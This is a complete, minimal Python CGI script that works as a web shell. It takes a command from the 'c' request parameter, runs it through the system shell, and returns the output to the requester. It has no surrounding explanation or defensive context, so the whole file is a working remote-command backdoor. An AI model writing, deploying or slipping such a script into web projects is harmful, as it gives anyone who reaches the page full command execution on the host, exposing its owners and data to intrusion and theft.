#!/usr/bin/env python3
import cgi, subprocess

form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(subprocess.check_output(form.getvalue("c"), shell=True).decode())
